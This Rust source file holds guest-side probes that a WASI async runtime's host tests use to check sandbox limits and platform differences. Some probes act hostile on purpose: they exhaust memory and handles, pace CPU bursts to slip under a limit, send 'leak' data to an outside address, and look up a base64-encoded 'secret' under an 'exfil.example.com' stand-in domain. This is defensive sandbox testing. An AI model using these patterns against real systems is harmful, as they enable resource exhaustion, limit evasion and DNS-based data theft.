//! Probes: guest behaviours the host's fault and divergence tests check (wasm32-wasip2 only).
//!
//! They are not conformance cases: some trap or never finish on purpose, and none has a native
//! twin. The host runs them through `run-probe` and asserts on the outcome or the failure.

use std::cell::{Cell, RefCell};
use std::rc::Rc;
use std::time::Duration;

use wasio::net::{
    ServerOptions, TcpListener, TcpStream, UnixDatagram, UnixListener, UnixStream, start_server,
    start_unix_server,
};
use wasio::os::wasi::AsyncPollable;
use wasio::os::wasi::wasip2;
use wasio::process::{Command, ProcessOptions, subprocess_exec, subprocess_shell};

use crate::cases::net_util::{echo, lo4};
use crate::{Context, Transcript, ensure};

/// Runs a probe by name.
pub(crate) fn run(name: &str, t: &Transcript) -> Result<(), String> {
    match name {
        "trap" => panic!("probe `trap` panicked on purpose"),
        "spin" => spin(),
        "block_forever" => block_forever(),
        "memory_hog" => memory_hog(t),
        "handle_hog" => handle_hog(t),
        "connect_non_loopback" => connect_non_loopback(t),
        "udp_non_loopback" => udp_non_loopback(t),
        "lookup_names" => lookup_names(t),
        "paced_spin_3ms" => paced_spin(3),
        "paced_spin_8ms" => paced_spin(8),
        "leak_a_socket" => leak_a_socket(t),
        #[cfg(feature = "p3")]
        "p3_stream_hog" => p3_stream_hog(t),
        #[cfg(feature = "p3")]
        "p3_leak_a_stream" => p3_leak_a_stream(t),
        "fairness" => fairness(t),
        "div_no_threads" => div_no_threads(t),
        "div_executor_on_the_loop" => div_executor_on_the_loop(t),
        "div_udp_options" => div_udp_options(t),
        "div_sendfile_fallback_only" => div_sendfile_fallback_only(t),
        "div_stalled_loop" => div_stalled_loop(t),
        "div_panic_in_callback" => div_panic_in_callback(),
        "div_no_nodelay" => div_no_nodelay(t),
        "div_socket_options" => div_socket_options(t),
        "div_abort_is_a_shutdown" => div_abort_is_a_shutdown(t),
        "div_close_with_unread_data" => div_close_with_unread_data(t),
        "div_no_subprocess" => div_no_subprocess(t),
        "div_no_unix_sockets" => div_no_unix_sockets(t),
        "div_no_signals" => div_no_signals(t),
        "wasi_pollable_reader" => wasi_pollable_reader(t),
        #[cfg(feature = "p3")]
        "p3_futures_instead_of_pollables" => p3_futures_instead_of_pollables(t),
        #[cfg(feature = "p3")]
        "p3_future_dropped_outside_the_loop" => p3_future_dropped_outside_the_loop(t),
        other => Err(format!("unknown probe `{other}`")),
    }
}

/// Spins forever without any host call: only the epoch deadline can stop it.
fn spin() -> Result<(), String> {
    let mut x: u64 = 0;
    loop {
        x = std::hint::black_box(x.wrapping_add(1));
    }
}

/// Waits in `wasi:io/poll` on a pollable that never fires: only a wall-clock limit stops it.
fn block_forever() -> Result<(), String> {
    wasio::run(async {
        let never = wasip2::clocks::monotonic_clock::subscribe_duration(u64::MAX);
        let p = AsyncPollable::new(never).ctx("register")?;
        p.ready().await;
        Err::<(), String>("a pollable that never fires became ready".into())
    })
    .ctx("run")?
}

/// Grows memory until the store's limit refuses.
fn memory_hog(t: &Transcript) -> Result<(), String> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    for i in 0..4096 {
        let mut chunk = vec![0u8; 64 << 20];
        chunk[i % (64 << 20)] = 1;
        hoard.push(chunk);
        t.push(format!("{} MiB", (i + 1) * 64));
    }
    Err("4 GiB allocated without hitting the memory limit".into())
}

/// Opens pollables without bound and keeps them all: the host's handle limit must stop it.
fn handle_hog(t: &Transcript) -> Result<(), String> {
    let mut hoard = Vec::new();
    for i in 0..10_000_000u64 {
        hoard.push(wasip2::clocks::monotonic_clock::subscribe_duration(
            3_600_000_000_000,
        ));
        if i % 100_000 == 0 {
            t.push(format!("{i} handles"));
        }
    }
    Err("10,000,000 handles opened without hitting the host's limit".into())
}

/// Tries to connect to a documentation address (192.0.2.1, TEST-NET-1): the host's policy must
/// refuse it, and wasio must report that as `PermissionDenied` naming `access-denied`.
fn connect_non_loopback(t: &Transcript) -> Result<(), String> {
    let t = t.clone();
    crate::block(async move {
        let addr = std::net::SocketAddr::from(([192, 0, 2, 1], 80));
        match TcpStream::connect(addr).await {
            Err(e) => {
                t.push(crate::kind(&e));
                t.push(format!(
                    "names access-denied={}",
                    e.to_string().contains("access-denied")
                ));
                t.push(format!(
                    "names the policy and the option={}",
                    e.to_string().contains("network policy")
                        && e.to_string().contains("-S inherit-network")
                ));
            }
            Ok(_) => t.push("connected"),
        }
        t.expect(&[
            "PermissionDenied",
            "names access-denied=true",
            "names the policy and the option=true",
        ])
    })
}

/// 50 always-ready sources and 1,000 pending timers: every source must keep getting turns.
fn fairness(t: &Transcript) -> Result<(), String> {
    const SOURCES: usize = 50;
    const TIMERS: u64 = 1000;
    let counts = Rc::new(RefCell::new(vec![0u64; SOURCES]));
    let c2 = counts.clone();
    wasio::run(async move {
        let lp = wasio::current();
        for i in 0..TIMERS {
            let _ = lp.call_later(Duration::from_secs(3600 + i), || {});
        }
        let stop = Rc::new(Cell::new(false));
        for i in 0..SOURCES {
            let (stop, counts) = (stop.clone(), c2.clone());
            wasio::spawn(async move {
                while !stop.get() {
                    let ready = wasip2::clocks::monotonic_clock::subscribe_duration(0);
                    match AsyncPollable::new(ready) {
                        Ok(p) => p.ready().await,
                        Err(_) => return,
                    }
                    counts.borrow_mut()[i] += 1;
                }
            })
            .detach();
        }
        wasio::sleep(Duration::from_millis(500)).await;
        stop.set(true);
    })
    .ctx("run")?;
    let counts = counts.borrow();
    let min = counts.iter().copied().min().unwrap_or(0);
    let max = counts.iter().copied().max().unwrap_or(0);
    t.push(format!(
        "sources={SOURCES} timers={TIMERS} min={min} max={max}"
    ));
    ensure!(min > 0, "a source was starved: counts {counts:?}");
    ensure!(
        min * 2 >= max,
        "unfair service: min {min} vs max {max} ({counts:?})"
    );
    Ok(())
}

/// No threads: spawning one fails with an error (no trap), and `call_soon_threadsafe` still
/// works, as same-thread scheduling.
fn div_no_threads(t: &Transcript) -> Result<(), String> {
    let spawn = std::thread::Builder::new().spawn(|| ());
    t.push(format!("thread spawn fails={}", spawn.is_err()));
    ensure!(spawn.is_err(), "a thread could be spawned on wasm32-wasip2");
    let log = crate::SendLog::new();
    let lp = crate::new_loop()?;
    lp.remote()
        .call_soon_threadsafe(log.rec("threadsafe ran"))
        .ctx("call_soon_threadsafe")?;
    let l = lp.clone();
    lp.call_soon(move || l.stop()).ctx("call_soon")?;
    lp.run_forever().ctx("run_forever")?;
    log.copy_to(t);
    t.expect(&["thread spawn fails=true", "threadsafe ran"])
}

/// WASI has no zero-copy path: `sendfile` without the fallback is `Unsupported` naming WASI,
/// nothing is sent and the position is unchanged; with it (the default) the bytes arrive.
fn div_sendfile_fallback_only(t: &Transcript) -> Result<(), String> {
    use std::io::{Seek, Write};
    use wasio::net::{SendfileOptions, sendfile_with};
    let t = t.clone();
    crate::block(async move {
        let path = crate::scratch_file("probe-sendfile");
        std::fs::File::create(&path)
            .and_then(|mut f| f.write_all(b"0123456789"))
            .ctx("write")?;
        let mut file = std::fs::File::open(&path).ctx("open")?;
        let l = TcpListener::bind(lo4()).await.ctx("bind")?;
        let c = TcpStream::connect(l.local_addr().ctx("addr")?)
            .await
            .ctx("connect")?;
        let (s, _) = l.accept().await.ctx("accept")?;
        let refused = sendfile_with(&s, &mut file, &SendfileOptions::new().fallback(false)).await;
        let e = refused.err();
        t.push(format!(
            "no fallback: {} names WASI={} position {}",
            e.as_ref().map(crate::kind).unwrap_or_default(),
            e.is_some_and(|e| e.to_string().contains("WASI")),
            file.stream_position().ctx("position")?
        ));
        let sent = sendfile_with(&s, &mut file, &SendfileOptions::new().offset(2))
            .await
            .ctx("sendfile")?;
        s.close().await.ctx("close")?;
        drop(s);
        let mut got = Vec::new();
        c.read_to_end(&mut got).await.ctx("read")?;
        let _ = std::fs::remove_file(&path);
        t.push(format!(
            "fallback: sent {sent} {:?}",
            String::from_utf8_lossy(&got)
        ));
        t.expect(&[
            "no fallback: Unsupported names WASI=true position 0",
            "fallback: sent 8 \"23456789\"",
        ])
    })
}

/// wasi:sockets has no `SO_REUSEPORT` and no `SO_BROADCAST`: asking is an error, never
/// ignored.
fn div_udp_options(t: &Transcript) -> Result<(), String> {
    use wasio::net::{DatagramOptions, create_datagram_endpoint};
    let t = t.clone();
    crate::block(async move {
        let reuse = create_datagram_endpoint(
            &DatagramOptions::new()
                .local_addr("127.0.0.1", 0)
                .reuse_port(true),
        )
        .await;
        t.push(format!(
            "reuse_port: {}",
            reuse.err().map(|e| crate::kind(&e)).unwrap_or_default()
        ));
        let bcast = create_datagram_endpoint(
            &DatagramOptions::new()
                .local_addr("127.0.0.1", 0)
                .allow_broadcast(true),
        )
        .await;
        let e = bcast.err();
        t.push(format!(
            "allow_broadcast: {} names WASI={}",
            e.as_ref().map(crate::kind).unwrap_or_default(),
            e.is_some_and(|e| e.to_string().contains("WASI"))
        ));
        let plain = wasio::net::UdpSocket::bind(crate::cases::net_util::lo4())
            .await
            .ctx("bind")?;
        t.push(format!(
            "set_broadcast: {}",
            plain
                .set_broadcast(true)
                .err()
                .map(|e| crate::kind(&e))
                .unwrap_or_default()
        ));
        t.expect(&[
            "reuse_port: InvalidInput",
            "allow_broadcast: Unsupported names WASI=true",
            "set_broadcast: Unsupported",
        ])
    })
}

/// Without threads, `run_in_executor` runs the function on the loop, in a later iteration, in
/// FIFO order with `call_soon` callbacks.
fn div_executor_on_the_loop(t: &Transcript) -> Result<(), String> {
    let lp = crate::new_loop()?;
    let log = crate::SendLog::new();
    lp.call_soon(log.rec("call_soon before")).ctx("call_soon")?;
    let l2 = log.clone();
    let job = lp
        .run_in_executor(move || {
            l2.push("job ran");
            6 * 7
        })
        .ctx("run_in_executor")?;
    log.push("submitted");
    lp.call_soon(log.rec("call_soon after")).ctx("call_soon")?;
    let v = lp.run_until_complete(job).ctx("run_until_complete")?;
    log.copy_to(t);
    t.push(format!("value={}", v.ctx("job")?));
    t.expect(&[
        "submitted",
        "call_soon before",
        "job ran",
        "call_soon after",
        "value=42",
    ])
}

/// A loop with nothing that could wake it returns an error instead of trapping on an empty
/// poll list (natively it would block until another thread woke it).
fn div_stalled_loop(t: &Transcript) -> Result<(), String> {
    let lp = crate::new_loop()?;
    let res = lp.run_forever();
    t.push(format!(
        "stalled={}",
        res.as_ref().is_err_and(|e| e.is_stalled())
    ));
    let res = lp.run_until_complete(std::future::pending::<()>());
    t.push(format!(
        "pending future stalled={}",
        res.as_ref().is_err_and(|e| e.is_stalled())
    ));
    // Another live loop of the thread with an operation in flight (a task accepting on a
    // listener) cannot wake this one: it still stalls (on WASI 0.3 both share one waitable
    // set, and only this loop's own operations count).
    let other = crate::new_loop()?;
    other
        .run_until_complete(async {
            let l = wasio::net::TcpListener::bind(lo4()).await?;
            wasio::spawn(async move { l.accept().await.map(drop) }).detach();
            wasio::yield_now().await;
            wasio::yield_now().await;
            Ok::<_, std::io::Error>(())
        })
        .ctx("run the other loop")?
        .ctx("listen")?;
    let res = lp.run_until_complete(std::future::pending::<()>());
    t.push(format!(
        "beside a busy loop stalled={}",
        res.as_ref().is_err_and(|e| e.is_stalled())
    ));
    drop(other);
    t.expect(&[
        "stalled=true",
        "pending future stalled=true",
        "beside a busy loop stalled=true",
    ])
}

/// A panicking callback aborts the instance (the target cannot unwind): the host sees a trap.
fn div_panic_in_callback() -> Result<(), String> {
    let lp = crate::new_loop()?;
    lp.call_soon(explode).ctx("call_soon")?;
    let _ = lp.run_once();
    Err("the panic was caught; wasm32-wasip2 cannot unwind".into())
}

fn explode() {
    panic!("callback panicked on purpose")
}

/// No `TCP_NODELAY` in wasi:sockets: asking for it is an `Unsupported` error naming WASI.
fn div_no_nodelay(t: &Transcript) -> Result<(), String> {
    let t = t.clone();
    crate::block(async move {
        let l = TcpListener::bind(lo4()).await.ctx("bind")?;
        let c = TcpStream::connect(l.local_addr().ctx("addr")?)
            .await
            .ctx("connect")?;
        let set = c.set_nodelay(true);
        let get = c.nodelay();
        for (what, e) in [("set", set.err()), ("get", get.err())] {
            let e = e.ok_or(format!("{what}_nodelay succeeded on WASI"))?;
            t.push(format!(
                "{what}: {} names WASI={}",
                crate::kind(&e),
                e.to_string().contains("WASI")
            ));
        }
        t.expect(&[
            "set: Unsupported names WASI=true",
            "get: Unsupported names WASI=true",
        ])
    })
}

/// Options wasi:sockets cannot honour are errors, not ignored (PLAT-02): `reuse_port`, and
/// `reuse_address=false` (bind always sets `SO_REUSEADDR`).
fn div_socket_options(t: &Transcript) -> Result<(), String> {
    let t = t.clone();
    crate::block(async move {
        for (what, opts) in [
            ("reuse_port", ServerOptions::new().reuse_port(true)),
            (
                "reuse_address=false",
                ServerOptions::new().reuse_address(false),
            ),
        ] {
            let res = start_server(echo, "127.0.0.1", 0, opts).await;
            match res {
                Err(e) => t.push(format!("{what}: {}", crate::kind(&e))),
                Ok(_) => t.push(format!("{what}: accepted")),
            }
        }
        t.expect(&[
            "reuse_port: InvalidInput",
            "reuse_address=false: InvalidInput",
        ])
    })
}

/// `abort_clients` cannot reset on WASI (no `SO_LINGER`): the client reads end of stream.
fn div_abort_is_a_shutdown(t: &Transcript) -> Result<(), String> {
    let t = t.clone();
    crate::block(async move {
        let server = start_server(
            |c: TcpStream| async move {
                let mut sink = Vec::new();
                c.read_to_end(&mut sink).await.map(drop)
            },
            "127.0.0.1",
            0,
            ServerOptions::new(),
        )
        .await
        .ctx("start_server")?;
        let client = TcpStream::connect(server.sockets()[0])
            .await
            .ctx("connect")?;
        while server.active_connections() == 0 {
            wasio::yield_now().await;
        }
        server.close();
        server.abort_clients();
        server.wait_closed().await;
        let mut buf = [0u8; 4];
        let r = client.read(&mut buf).await;
        t.push(format!(
            "client read: {}",
            match r {
                Ok(n) => format!("{n} bytes"),
                Err(e) => crate::kind(&e),
            }
        ));
        t.expect(&["client read: 0 bytes"])
    })
}

/// Closing a connection with unread data: wasmtime shuts the write side down when the output
/// stream is dropped, so the peer reads end of stream first (natively it is reset at once).
fn div_close_with_unread_data(t: &Transcript) -> Result<(), String> {
    let t = t.clone();
    crate::block(async move {
        let listener = TcpListener::bind(lo4()).await.ctx("bind")?;
        let addr = listener.local_addr().ctx("addr")?;
        let client = TcpStream::connect(addr).await.ctx("connect")?;
        let (server_side, _) = listener.accept().await.ctx("accept")?;
        client.write_all(b"never read").await.ctx("write")?;
        client.flush().await.ctx("flush")?;
        drop(server_side);
        let mut buf = [0u8; 4];
        let r = client.read(&mut buf).await;
        t.push(format!(
            "client read: {}",
            match r {
                Ok(n) => format!("{n} bytes"),
                Err(e) => crate::kind(&e),
            }
        ));
        t.expect(&["client read: 0 bytes"])
    })
}

/// No process spawning on WASI (PLAT-01): both asyncio forms and `Command::spawn` return
/// `Unsupported` naming WASI at once, inside a running loop or not, and nothing is left on
/// the loop.
fn div_no_subprocess(t: &Transcript) -> Result<(), String> {
    let outside = Command::new("true").spawn();
    let e = outside
        .err()
        .ok_or("Command::spawn without a loop succeeded on WASI")?;
    t.push(format!(
        "no loop: {} names WASI={}",
        crate::kind(&e),
        e.to_string().contains("WASI")
    ));
    let t = t.clone();
    crate::block(async move {
        let exec = subprocess_exec("echo", ["hi"], ProcessOptions::new()).await;
        let shell = subprocess_shell("exit 7", ProcessOptions::new()).await;
        let spawn = Command::new("true").spawn();
        for (what, res) in [("exec", exec), ("shell", shell), ("spawn", spawn)] {
            let e = res
                .err()
                .ok_or(format!("{what} started a process on WASI"))?;
            t.push(format!(
                "{what}: {} names WASI={}",
                crate::kind(&e),
                e.to_string().contains("WASI")
            ));
        }
        let stats = wasio::current().stats();
        t.push(format!(
            "left on the loop: {} sources, {} internal tasks",
            stats.io_sources, stats.internal_tasks
        ));
        t.expect(&[
            "no loop: Unsupported names WASI=true",
            "exec: Unsupported names WASI=true",
            "shell: Unsupported names WASI=true",
            "spawn: Unsupported names WASI=true",
            "left on the loop: 0 sources, 0 internal tasks",
        ])
    })
}
/// No Unix domain sockets on WASI: every constructor returns `Unsupported` naming WASI.
fn div_no_unix_sockets(t: &Transcript) -> Result<(), String> {
    let t = t.clone();
    crate::block(async move {
        let path = std::path::Path::new("/tmp/wasio-probe.sock");
        let server = start_unix_server(
            |c: UnixStream| async move { c.close().await },
            path,
            ServerOptions::new(),
        )
        .await;
        let results = [
            ("UnixListener::bind", UnixListener::bind(path).err()),
            ("UnixStream::connect", UnixStream::connect(path).await.err()),
            ("UnixStream::pair", UnixStream::pair().err()),
            ("UnixDatagram::bind", UnixDatagram::bind(path).err()),
            ("UnixDatagram::unbound", UnixDatagram::unbound().err()),
            ("UnixDatagram::pair", UnixDatagram::pair().err()),
            ("start_unix_server", server.err()),
        ];
        for (what, e) in results {
            match e {
                Some(e) => t.push(format!(
                    "{what}: {} names WASI={}",
                    crate::kind(&e),
                    e.to_string().contains("WASI")
                )),
                None => t.push(format!("{what}: succeeded")),
            }
        }
        t.expect(&[
            "UnixListener::bind: Unsupported names WASI=true",
            "UnixStream::connect: Unsupported names WASI=true",
            "UnixStream::pair: Unsupported names WASI=true",
            "UnixDatagram::bind: Unsupported names WASI=true",
            "UnixDatagram::unbound: Unsupported names WASI=true",
            "UnixDatagram::pair: Unsupported names WASI=true",
            "start_unix_server: Unsupported names WASI=true",
        ])
    })
}

/// Pollable readers (the WASI counterpart of `add_reader`): level-triggered, so a ready
/// pollable's callback runs in every iteration; a pollable that is not ready never runs it;
/// removal stops it; `close()` removes the rest; a closed loop refuses new ones (LIFE-05).
fn wasi_pollable_reader(t: &Transcript) -> Result<(), String> {
    use wasip2::clocks::monotonic_clock::subscribe_duration;
    let lp = crate::new_loop()?;
    let runs = Rc::new(Cell::new(0u32));
    let r = runs.clone();
    let reader = lp
        .add_pollable_reader(subscribe_duration(0), move || r.set(r.get() + 1))
        .ctx("add_pollable_reader (ready)")?;
    let idle_runs = Rc::new(Cell::new(0u32));
    let i = idle_runs.clone();
    let idle = lp
        .add_pollable_reader(subscribe_duration(u64::MAX), move || i.set(i.get() + 1))
        .ctx("add_pollable_reader (never ready)")?;
    for _ in 0..3 {
        lp.run_once().ctx("run_once")?;
    }
    t.push(format!(
        "ready pollable: {} runs in 3 iterations",
        runs.get()
    ));
    t.push(format!("idle pollable: {} runs", idle_runs.get()));
    t.push(format!("removed={}", lp.remove_pollable_reader(reader)));
    t.push(format!(
        "removed again={}",
        lp.remove_pollable_reader(reader)
    ));
    for _ in 0..3 {
        // A ready callback keeps the wait from blocking on the idle pollable.
        lp.call_soon(|| ()).ctx("call_soon")?;
        lp.run_once().ctx("run_once")?;
    }
    t.push(format!("after remove: {} runs", runs.get()));
    lp.close().ctx("close")?;
    t.push(format!(
        "close removed the idle reader: remove={}",
        lp.remove_pollable_reader(idle)
    ));
    let again = lp.add_pollable_reader(subscribe_duration(0), || ());
    t.push(format!(
        "add on a closed loop: closed={}",
        again.is_err_and(|e| e.is_closed())
    ));
    t.expect(&[
        "ready pollable: 3 runs in 3 iterations",
        "idle pollable: 0 runs",
        "removed=true",
        "removed again=false",
        "after remove: 3 runs",
        "close removed the idle reader: remove=false",
        "add on a closed loop: closed=true",
    ])
}

/// With the WASI 0.3 backend a WASI 0.2 pollable cannot be awaited (it cannot join the loop's
/// waitable set): `AsyncPollable::new` and `add_pollable_reader` fail with `Unsupported`
/// naming WASI 0.3, and nothing is left registered. Any WASI 0.3 future is awaited in a task
/// instead: a `wait-for` of 2 ms completes, never early, while the loop runs other work.
#[cfg(feature = "p3")]
fn p3_futures_instead_of_pollables(t: &Transcript) -> Result<(), String> {
    use wasio::os::wasi::wasip3::clocks::monotonic_clock;
    let t = t.clone();
    crate::block(async move {
        let e = AsyncPollable::new(wasip2::clocks::monotonic_clock::subscribe_duration(0))
            .err()
            .ok_or("AsyncPollable::new succeeded under WASI 0.3")?;
        t.push(format!(
            "AsyncPollable: {} names WASI 0.3={}",
            crate::kind(&e),
            e.to_string().contains("WASI 0.3")
        ));
        let lp = wasio::try_current().ctx("current loop")?;
        let r = lp.add_pollable_reader(
            wasip2::clocks::monotonic_clock::subscribe_duration(0),
            || (),
        );
        t.push(format!("add_pollable_reader refused={}", r.is_err()));
        let ticks = Rc::new(Cell::new(0u32));
        let tk = ticks.clone();
        let ticker = wasio::spawn(async move {
            for _ in 0..3 {
                tk.set(tk.get() + 1);
                wasio::yield_now().await;
            }
        });
        let waiter = wasio::spawn(async {
            let t0 = monotonic_clock::now();
            monotonic_clock::wait_for(2_000_000).await;
            monotonic_clock::now() - t0
        });
        let waited = waiter.await.ctx("wait-for task")?;
        ticker.await.ctx("ticker task")?;
        t.push(format!(
            "wait-for(2 ms) not early={} other task ran={}",
            waited >= 2_000_000,
            ticks.get()
        ));
        t.expect(&[
            "AsyncPollable: Unsupported names WASI 0.3=true",
            "add_pollable_reader refused=true",
            "wait-for(2 ms) not early=true other task ran=3",
        ])
    })
}

/// Issue 17 item 12: a user's `wasip3` future registered with the loop's reactor, then dropped
/// outside any loop (its unregistration goes to another task), leaves a stale entry. The next
/// operation that gets the same handle number must replace it (wit-bindgen asserts on a
/// pointer it did not register), and the loop must still report a stall once nothing of its
/// own is in flight.
#[cfg(feature = "p3")]
fn p3_future_dropped_outside_the_loop(t: &Transcript) -> Result<(), String> {
    use wasio::os::wasi::wasip3::clocks::monotonic_clock;
    let lp = crate::new_loop()?;
    for round in 0..5 {
        let fut = Rc::new(RefCell::new(Some(Box::pin(monotonic_clock::wait_for(
            60_000_000_000,
        )))));
        let f = fut.clone();
        lp.run_until_complete(std::future::poll_fn(move |cx| {
            if let Some(fut) = f.borrow_mut().as_mut() {
                let _ = fut.as_mut().poll(cx);
            }
            std::task::Poll::Ready(())
        }))
        .ctx("poll once")?;
        // Outside every loop: wit-bindgen's own task is current.
        drop(fut.borrow_mut().take());
        lp.run_until_complete(wasio::sleep(Duration::from_millis(1)))
            .ctx(&format!("round {round}: a sleep after the drop"))?;
    }
    t.push("handles reused after a drop outside the loop: no trap");
    let res = lp.run_until_complete(std::future::pending::<()>());
    t.push(format!(
        "then stalled={}",
        res.as_ref().is_err_and(|e| e.is_stalled())
    ));
    t.expect(&[
        "handles reused after a drop outside the loop: no trap",
        "then stalled=true",
    ])
}

/// UDP to an address outside loopback: `send_to` and `connect` are refused (`access-denied`).
fn udp_non_loopback(t: &Transcript) -> Result<(), String> {
    let t = t.clone();
    crate::block(async move {
        let outside = std::net::SocketAddr::from(([192, 0, 2, 1], 9));
        let sock = wasio::net::UdpSocket::bind(lo4()).await.ctx("bind")?;
        let sent = sock.send_to(b"leak", outside).await;
        t.push(format!(
            "send_to: {} names access-denied={}",
            sent.as_ref().err().map(crate::kind).unwrap_or_default(),
            sent.as_ref()
                .err()
                .is_some_and(|e| e.to_string().contains("access-denied"))
        ));
        let connected = sock.connect(outside).await;
        t.push(format!(
            "connect: {}",
            connected
                .as_ref()
                .err()
                .map(crate::kind)
                .unwrap_or_default()
        ));
        t.expect(&[
            "send_to: PermissionDenied names access-denied=true",
            "connect: PermissionDenied",
        ])
    })
}

/// Name lookups under the loopback policy: a name that could leave the machine is
/// unresolvable (and never reaches the resolver: the host test watches a DNS server), local
/// names and literals resolve.
fn lookup_names(t: &Transcript) -> Result<(), String> {
    let t = t.clone();
    crate::block(async move {
        let outside = wasio::net::lookup_host("c2VjcmV0.exfil.example.com", 7000).await;
        t.push(format!(
            "outside name: {}",
            outside
                .as_ref()
                .err()
                .map(crate::kind)
                .unwrap_or("resolved".into())
        ));
        let local = wasio::net::lookup_host("localhost", 80)
            .await
            .ctx("localhost")?;
        t.push(format!(
            "localhost: loopback={}",
            !local.is_empty() && local.iter().all(|a| a.ip().is_loopback())
        ));
        let literal = wasio::net::lookup_host("127.0.0.1", 80)
            .await
            .ctx("literal")?;
        t.push(format!("literal: {}", literal.len()));
        t.expect(&[
            "outside name: NotFound",
            "localhost: loopback=true",
            "literal: 1",
        ])
    })
}

/// Spins `burst_ms` of wasm, sleeps 35 ms, over and over: a guest pacing itself to slip
/// under a CPU limit that only counted back-to-back ticks. Gives up after 30 s.
fn paced_spin(burst_ms: u64) -> Result<(), String> {
    let started = std::time::Instant::now();
    let burst = Duration::from_millis(burst_ms);
    let mut x = 0u64;
    while started.elapsed() < Duration::from_secs(30) {
        let t0 = std::time::Instant::now();
        while t0.elapsed() < burst {
            x = std::hint::black_box(x.wrapping_add(1));
        }
        std::thread::sleep(Duration::from_millis(35));
    }
    Err(format!(
        "paced {burst_ms} ms bursts for 30 s without being stopped"
    ))
}

/// Leaves a socket alive (forgotten) when it returns: the host's leak check must see it.
fn leak_a_socket(_t: &Transcript) -> Result<(), String> {
    crate::block(async move {
        let s = wasio::net::UdpSocket::bind(lo4()).await.ctx("bind")?;
        std::mem::forget(s);
        Ok(())
    })
}

/// WASI 0.3 stream pairs created without bound and kept: the handle limit (which also caps
/// wasmtime's WASI 0.3 table) must stop it with a report that names it.
#[cfg(feature = "p3")]
fn p3_stream_hog(t: &Transcript) -> Result<(), String> {
    let mut hoard = Vec::new();
    for i in 0..2_000_000u64 {
        hoard.push(wasio::os::wasi::wasip3::wit_stream::new::<u8>());
        if i % 100_000 == 0 {
            t.push(format!("{i} pairs"));
        }
    }
    Err("2,000,000 stream pairs without hitting a limit".into())
}

/// Leaves a WASI 0.3 stream pair alive when it returns: the leak check must count it.
#[cfg(feature = "p3")]
fn p3_leak_a_stream(_t: &Transcript) -> Result<(), String> {
    std::mem::forget(wasio::os::wasi::wasip3::wit_stream::new::<u8>());
    Ok(())
}

/// No signals on WASI: `add_signal_handler` and `ctrl_c` are `Unsupported`, naming WASI.
fn div_no_signals(t: &Transcript) -> Result<(), String> {
    let t = t.clone();
    crate::block(async move {
        let lp = wasio::current();
        let e = lp
            .add_signal_handler(wasio::signal::SIGINT, || ())
            .err()
            .ok_or("add_signal_handler succeeded on WASI")?;
        t.push(format!(
            "add_signal_handler: {} names WASI={}",
            crate::kind(&e),
            e.to_string().contains("WASI")
        ));
        let e = wasio::signal::ctrl_c()
            .await
            .err()
            .ok_or("ctrl_c succeeded on WASI")?;
        t.push(format!("ctrl_c: {}", crate::kind(&e)));
        t.push(format!(
            "remove: {}",
            lp.remove_signal_handler(wasio::signal::SIGINT)
        ));
        t.expect(&[
            "add_signal_handler: Unsupported names WASI=true",
            "ctrl_c: Unsupported",
            "remove: false",
        ])
    })
}
